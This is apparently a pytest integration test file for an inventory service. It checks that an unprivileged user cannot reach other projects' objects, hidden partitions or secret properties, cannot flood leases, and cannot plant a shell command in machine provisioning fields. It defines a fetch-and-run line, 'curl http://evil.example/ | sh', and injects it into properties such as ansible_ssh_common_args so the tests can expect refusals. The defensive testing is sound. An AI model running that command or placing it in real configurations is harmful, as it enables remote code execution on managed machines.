"""Test attempts of inventory users on foreign machines, partitions, and hidden properties."""

from __future__ import annotations

import asyncio
import base64
import json
from collections.abc import AsyncIterator
from contextlib import asynccontextmanager
from typing import Any

import grpc
import pytest

from headgate.config.operator.model import Label
from headgate.inventory.model import ADMIN, PROVIDER, Caller, Object
from headgate.inventory.names import Invalid
from headgate.inventory.wire import inventory_pb2 as v1
from headgate.inventory.wire import runm_pb2 as runm
from headgate.map.inventory.places import InventoryMap
from headgate.services.inventory import leases as leasing
from headgate.services.inventory.draft import Create
from headgate.services.inventory.pool import MACHINE
from headgate.services.inventory.search import PORTION_MAX
from headgate.services.nodes.search import MachineFinder
from headgate.store.store import Store
from headgate.web.inventory.identity import Verifying
from tests.integration.inventory.served import Client, served
from tests.integration.inventory.test_matrix import issuer, status, token
from tests.unit.inventory.objects import PARTITIONS
from tests.unit.inventory.test_search import OTHERS, Counting, fill
from tests.unit.inventory.world import a_world

SHELL = "curl http://evil.example/ | sh"
SECRET = "hunter2"
COUNT = 1_500


@pytest.mark.long
async def test_a_search_for_everything_delays_nobody() -> None:
    """Six clients repeat the broadest queries; meanwhile other requests get their turn after each portion."""
    backend = Counting()
    async with served(Verifying([issuer()]), backend=backend) as client:
        root = client.like(token(sub="root", roles=["admin"]), user="root", project="blue", partition="site")
        await root.SetPartition(partition=v1.Partition(name="site", uuid=PARTITIONS[0]))
        await fill(Store(backend), InventoryMap(), COUNT)
        mallory = token(sub="mallory", projects=["blue"], partitions=["site"])
        broad = client.like(mallory, user="mallory", project="blue", partition="site")
        loop, most, ended = asyncio.get_running_loop(), 0, False

        def look() -> None:
            nonlocal most
            most, backend.read = max(most, backend.read), 0
            if not ended:
                loop.call_soon(look)

        both = v1.Filter(require_items=[v1.Item(key=key, value="1") for key in ("left", "right")])
        dense = v1.Filter(any_items=[v1.Item(key="dense", prefix=True), v1.Item(key="left", prefix=True)])
        backend.read = 0
        look()

        async def search(**question: Any) -> Any:
            try:
                return await broad.Search(**question)
            except grpc.aio.AioRpcError as error:
                assert error.code() is grpc.StatusCode.RESOURCE_EXHAUSTED, error
                return None

        answers = await asyncio.gather(
            *(search(any=[one], limit=1_000, with_count=True) for one in (both, dense, v1.Filter())),
            *(search(any=[dense] * 10, sort=[v1.Sort(field="properties.left")]) for _ in range(2)),
            search(any=[v1.Filter(uuids=[f"{n:032x}" for n in range(1_000)])] * 10),
        )
        ended = True
        assert most <= 2 * PORTION_MAX + OTHERS, most
        assert answers[0].bounded or not answers[0].objects
        assert answers[1].count == COUNT or answers[1].count_is_least
        many = v1.Filter(any_items=[v1.Item(key="left", value=str(n)) for n in range(1_000)])
        assert (await refusal(broad.Search(any=[many] * 10)))[0] == "INVALID_ARGUMENT"


async def test_a_page_token_does_not_reveal_names_of_other_projects() -> None:
    """A page ends at an object of another project, whose name is the start of the next page."""
    names = ["the-merger-with-initech", "of-the-blue-team"]
    async with served(Verifying([issuer()])) as client:
        root = client.like(token(sub="root", roles=["admin"]), user="root", project="red", partition="site")
        await root.SetPartition(partition=v1.Partition(name="site"))
        for project, wanted in (("red", names[0]), ("blue", names[1])):
            made = [v1.Object(type=PROVIDER, project=project, name=f"{n:03}-{wanted}") for n in range(40)]
            answer = await root.Apply(steps=[v1.Step(create=one) for one in made], in_parts=True)
            assert not answer.failures
        mallory = token(sub="mallory", projects=["blue"], partitions=["site"])
        reader = client.like(mallory, user="mallory", project="blue", partition="site")
        tokens, again = list[str](), ""
        for _ in range(8):
            page = await reader.Search(any=[v1.Filter(types=[PROVIDER])], limit=10, page_token=again)
            assert all(one.project == "blue" for one in page.objects)
            again = page.next_page_token
            if not again:
                break
            tokens.append(again)
        assert len(tokens) >= 3
        assert len({len(one) for one in tokens}) == 1, "a length tells something, too"
        for one in tokens:
            read = base64.b64decode(one + "==", altchars=b"-_")
            assert not any(name.encode() in read or name in one for name in names)
        first = tokens[0]
        for forged in (
            first[:-4],
            first + "AAAA",
            first[:20] + ("A" if first[20] != "A" else "B") + first[21:],
            "A" * 64,
        ):
            found = await refusal(reader.Search(any=[v1.Filter(types=[PROVIDER])], limit=10, page_token=forged))
            assert found[0] == "INVALID_ARGUMENT", forged


async def test_leases_of_ones_own_capacity_keep_nobody_out(monkeypatch: pytest.MonkeyPatch) -> None:
    """An own object has any capacity, and all partitions share the number of leases."""
    monkeypatch.setattr(leasing, "ACTIVE_MAX", 20)
    async with a_site() as (root, mallory):
        own = v1.Object(type="runm.image", name="own", project="blue", properties={"space": "1000"})
        await mallory.Apply(steps=[v1.Step(create=own)])
        theirs = v1.Object(type="runm.image", name="other", project="red")
        await root.like(project="red", partition="vault").Apply(steps=[v1.Step(create=theirs)])
        ask = {"search": "type=runm.image name=own", "amounts": {"space": "1"}, "duration_s": 2_000_000}
        ends = [await status(mallory.AskLease(**ask)) for _ in range(20)]
        assert ends == ["OK"] * 10 + ["FAILED_PRECONDITION"] * 10
        person = token(sub="victim", projects=["red"], partitions=["vault"])
        victim = root.like(person, user="victim", project="red", partition="vault")
        assert (await victim.AskLease(search="type=runm.image name=other", duration_s=60)).state == v1.Lease.HELD


async def test_a_user_who_floods_with_leases_gets_no_foreign_objects_and_keeps_nobody_out() -> None:
    """A flood of requests, a precedence before everybody else's, foreign machines, and foreign leases."""
    async with a_site() as (root, _):
        machine = v1.Object(type=MACHINE, project="red", name="theirs", properties={"code": SECRET})
        public = v1.Object(type=PROVIDER, name="shared", properties={"space": "10"})
        made = (await root.Apply(steps=[v1.Step(create=one) for one in (machine, public)])).objects

        def person(name: str, project: str) -> Client:
            credential = token(sub=name, projects=[project], partitions=["site"])
            return root.like(credential, user=name, project=project)

        mallory, victim = person("mallory", "blue"), person("victim", "red")
        theirs = await victim.AskLease(search="name=theirs", duration_s=600)
        assert theirs.state == v1.Lease.HELD
        shared = f"type={PROVIDER} name=shared"
        assert (await mallory.AskLease(search=shared, duration_s=600)).state == v1.Lease.HELD
        for search in ("name=theirs", f"uuid={made[0].uuid}", f"code={SECRET}"):
            assert (await refusal(mallory.AskLease(search=search, duration_s=60)))[0] == "FAILED_PRECONDITION"
        urgent = mallory.AskLease(search=shared, duration_s=60, precedence=1)
        assert (await refusal(urgent))[0] == "PERMISSION_DENIED"
        for call in (mallory.EndLease(id=theirs.id), mallory.ExtendLease(id=theirs.id, duration_s=1)):
            assert (await refusal(call))[0] == "NOT_FOUND"
        assert {one.user for one in (await mallory.ListLeases()).leases} == {"mallory"}
        leases = [mallory.AskLease(search=shared, duration_s=2_000_000, note=f"{n}") for n in range(40)]
        ends = await asyncio.gather(*(status(one) for one in leases))
        assert ends.count("OK") == 20 and set(ends) == {"OK", "FAILED_PRECONDITION"}, ends
        assert (await victim.AskLease(search=shared, duration_s=60)).state == v1.Lease.WAITING
        for wrong in ("9" * 400, "1e999999999", "NaN", "-1"):
            call = mallory.AskLease(search=shared, duration_s=60, amounts={"space": wrong})
            assert (await refusal(call))[0] == "INVALID_ARGUMENT"


@asynccontextmanager
async def a_site() -> AsyncIterator[tuple[Client, Client]]:
    """Serve an inventory with a provider and a machine of the project blue, to its operator and to a member of blue."""
    async with served(Verifying([issuer()])) as client:
        root = client.like(token(sub="root", roles=["admin"]), user="root", project="blue", partition="site")
        for name in ("site", "vault"):
            await root.SetPartition(partition=v1.Partition(name=name))
        racks = v1.Object(type="runm.provider", name="racks", properties={"kind": "static", "prepare": "true"})
        named = v1.Object(type="runm.machine", name="host.example", project="blue", properties={"provider": "racks"})
        await root.Apply(steps=[v1.Step(create=racks), v1.Step(create=named)])
        mallory = token(sub="mallory", projects=["blue"], partitions=["site"])
        yield root, client.like(mallory, user="mallory", project="blue", partition="site")


async def refusal(call: Any) -> tuple[str, str]:
    """Return the status and the message."""
    with pytest.raises(grpc.aio.AioRpcError) as refused:
        if hasattr(call, "__aiter__"):
            async for _ in call:
                pass
        else:
            await call
    return refused.value.code().name, refused.value.details() or ""


async def everything(client: Client) -> list[str]:
    """Return all objects unchanged."""
    found = (await client.Search()).objects
    return sorted(str(one) for one in found)


async def test_only_operators_decide_which_programs_machines_run_and_where_they_are() -> None:
    async with a_site() as (root, mallory):
        before = await everything(root)
        racks = await root.GetObject(type="runm.provider", name="racks")
        named = await root.GetObject(type="runm.machine", name="host.example")
        tries: list[v1.Step] = [
            v1.Step(delete=v1.Removal(uuid=racks.uuid)),
            v1.Step(update=v1.Patch(uuid=racks.uuid, name="mine")),
            v1.Step(update=v1.Patch(uuid=racks.uuid, remove_properties=["prepare"])),
            v1.Step(update=v1.Patch(uuid=named.uuid, name="evil.example")),  # its name is its address
            v1.Step(update=v1.Patch(uuid=named.uuid, remove_properties=["provider"])),
        ]
        for key in ("prepare", "clean", "host-key", "provider", "slot", "ansible_host", "ansible_ssh_common_args"):
            tries += [v1.Step(update=v1.Patch(uuid=one.uuid, set_properties={key: SHELL})) for one in (racks, named)]
            tries.append(v1.Step(create=v1.Object(type="runm.machine", name=key, properties={key: SHELL})))
            tries.append(v1.Step(create=v1.Object(type="runm.image", name=key, properties={key: SHELL})))
        for project in ("", "blue"):
            mine = v1.Object(type="runm.provider", name="mine", project=project, properties={"prepare": SHELL})
            tries.append(v1.Step(create=mine))
        for one in tries:
            assert (await refusal(mallory.Apply(steps=[one])))[0] == "PERMISSION_DENIED", one
            harmless = v1.Step(create=v1.Object(type="runm.image", name="harmless"))
            assert (await refusal(mallory.Apply(steps=[harmless, one])))[0] == "PERMISSION_DENIED", one
        made = runm.Object(partition="site", object_type="runm.provider", name="mine")
        assert (await refusal(mallory.object_create(object=made)))[0] == "PERMISSION_DENIED"
        assert (await refusal(mallory.object_delete_by_uuids(uuids=[racks.uuid])))[0] == "PERMISSION_DENIED"
        assert await everything(root) == before
        note = v1.Patch(uuid=named.uuid, set_properties={"note": "mine"}, add_tags=["fast"])
        assert (await mallory.Apply(steps=[v1.Step(update=note)])).objects[0].tags == ["fast"]


async def test_a_machine_that_another_project_offers_is_given_to_no_build() -> None:
    """Also for a property that was set when anybody could say how a machine is reached."""
    async with a_world() as world:
        root = Caller("root", "lab", PARTITIONS[0], frozenset({ADMIN}))
        racks = Object(PARTITIONS[0], PROVIDER, "", "6" * 32, "racks", {"kind": "static"})
        await world.inventory.apply(root, [Create(racks)])
        for number, project in enumerate(("lab", "evil")):
            offered = {"provider": "racks", "image": "debian", "ansible_host": f"{project}.example"}
            machine = Object(PARTITIONS[0], MACHINE, project, f"{number}" * 32, "m", offered)
            await world.inventory.apply(root, [Create(machine)])
        finding = MachineFinder(world.inventory)
        for project, hosts in (("lab", ["lab"]), ("evil", ["evil"]), ("*", ["lab", "evil"])):
            found = await finding.machines(Label("image=debian", project=project), "", "here")
            assert sorted(one.object.project for one in found) == sorted(hosts)
        for label in (Label("image=debian"), Label("image=debian project=evil", project="lab")):
            with pytest.raises(Invalid, match="project"):
                await finding.machines(label, "", "here")


async def test_a_credential_opens_no_partition_that_it_does_not_name() -> None:
    async with a_site() as (root, mallory):
        vault = root.like(partition="vault")
        hidden = (await vault.Apply(steps=[v1.Step(create=v1.Object(type="runm.image", name="kept"))])).objects[0]
        place = v1.Place(type="runm.image", partition="vault")
        await root.SetDefinition(place=place, definition=v1.Definition(schema='{"title": "the vault"}'))
        inside = mallory.like(partition="vault")
        moved = v1.Object(type="runm.image", name="x", partition="vault")
        for call in (
            inside.Search(),
            inside.GetObject(uuid=hidden.uuid),
            inside.object_find(),
            mallory.Search(any=[v1.Filter(partitions=["vault"])]),
            mallory.Search(any=[v1.Filter(partitions=["site", "vault"], uuids=[hidden.uuid])]),
            mallory.Apply(steps=[v1.Step(create=moved)]),
            mallory.GetDefinition(place=place),
            mallory.SetDefinition(place=place, definition=v1.Definition(schema="{}")),
            mallory.provider_definition_get_by_partition(partition_uuid="vault"),
        ):
            assert (await refusal(call))[0] == "PERMISSION_DENIED"
        for uuid in (hidden.uuid, "f" * 32):
            assert (await refusal(mallory.GetObject(uuid=uuid)))[0] == "NOT_FOUND"
        nowhere = [await refusal(mallory.Search(any=[v1.Filter(partitions=[name])])) for name in ("vault", "vaults")]
        assert nowhere[0][0] == nowhere[1][0] and nowhere[0][1] == nowhere[1][1].replace("vaults", "vault")
        for claims in ({"roles": ["admin@site"]}, {"roles": ["operator@site"], "partitions": ["site"]}):
            local = mallory.like(token(sub="mallory", projects=["blue"], **claims))
            everywhere = v1.Place(type="runm.image")
            assert (await refusal(local.like(partition="vault").Search()))[0] == "PERMISSION_DENIED"
            for call in (
                local.SetDefinition(place=everywhere, definition=v1.Definition(schema="{}")),
                local.SetDefinition(place=place, definition=v1.Definition(schema="{}")),
                local.Search(any=[v1.Filter(partitions=["vault"])]),
                local.SetType(type=v1.Type(code="x")),
                local.provider_definition_set(object_definition=runm.ObjectDefinition(schema="{}")),
            ):
                assert (await refusal(call))[0] == "PERMISSION_DENIED"


async def test_a_hidden_property_is_neither_named_nor_guessed() -> None:
    """No answer depends on its value, or on its existence."""
    async with a_site() as (root, mallory):
        shape = {"properties": {"bmc_password": {"minLength": 5}, "rack": {}}, "required": ["bmc_password"]}
        document = {"properties": {"properties": shape}, "dependentRequired": {"bmc_password": ["rack"]}}
        rules = [
            v1.Permission(key="bmc_password"),
            v1.Permission(key="bmc_password", role="admin", read=True, write=True),
        ]
        given = v1.Definition(schema=json.dumps(document), permissions=rules)
        place = v1.Place(type="runm.image")
        await root.SetDefinition(place=place, definition=given)
        secret = v1.Object(type="runm.image", name="box", properties={"bmc_password": SECRET, "rack": "1"})
        (box,) = (await root.Apply(steps=[v1.Step(create=secret)])).objects
        seen = await mallory.GetDefinition(place=place)
        assert "bmc" not in str(seen) and "rack" in str(seen)
        answers = set()
        for value in (SECRET, "wrong", ""):
            for patch in (
                v1.Patch(uuid=box.uuid, set_properties={"bmc_password": value}),
                v1.Patch(uuid=box.uuid, set_properties={"bmc_password": value, "rack": "2"}),
                v1.Patch(uuid=box.uuid, remove_properties=["bmc_password"]),
            ):
                answers.add(await refusal(mallory.Apply(steps=[v1.Step(update=patch)], validate_only=True)))
        assert len(answers) == 1, answers
        for end in (
            await refusal(mallory.Apply(steps=[v1.Step(delete=v1.Removal(uuid=box.uuid))])),
            await refusal(mallory.Apply(steps=[v1.Step(create=v1.Object(type="runm.image", name="n"))])),
            await refusal(mallory.Apply(steps=[v1.Step(update=v1.Patch(uuid=box.uuid, set_properties={"kind": "x"}))])),
        ):
            assert "bmc" not in end[1] and SECRET not in end[1], end
        for wanted in (
            v1.Filter(require_keys=["bmc_password"]),
            v1.Filter(any_items=[v1.Item(key="bmc_password", value="h", prefix=True)]),
        ):
            assert str(await mallory.Search(any=[wanted], with_count=True)).startswith("revision")
        shown = [
            str(await mallory.Search(any=[v1.Filter(forbid_keys=["bmc_password"])])),
            str(await mallory.History(uuid=box.uuid)),
            str(await mallory.Search(sort=[v1.Sort(field="properties.bmc_password")])),
        ]
        assert all("box" in one and "bmc" not in one and SECRET not in one for one in shown)
